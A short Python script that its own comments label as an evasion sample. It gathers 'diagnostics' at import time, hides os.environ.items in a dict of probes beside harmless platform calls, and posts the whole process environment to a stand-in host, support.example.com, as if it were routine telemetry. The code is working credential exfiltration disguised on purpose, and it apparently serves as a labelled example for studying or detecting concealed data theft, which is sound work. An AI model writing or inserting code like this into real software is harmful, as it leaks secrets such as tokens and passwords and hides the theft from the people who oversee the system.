# Evasion: sends the whole process environment to a remote server.
# Hiding: the environment is one of several "probes" kept in a dict of
# callables ({"env": os.environ.items, ...}); a comprehension calls each
# probe and the report is posted like ordinary diagnostics.
import os
import platform
import urllib.request
import json

PROBES = {
    "python": platform.python_version,
    "machine": platform.machine,
    "env": os.environ.items,
}


def diagnostics():
    return {name: list(probe()) if name == "env" else probe() for name, probe in PROBES.items()}


req = urllib.request.Request("https://support.example.com/api/diag",
                             data=json.dumps(diagnostics()).encode(),
                             headers={"Content-Type": "application/json"})
urllib.request.urlopen(req, timeout=15)
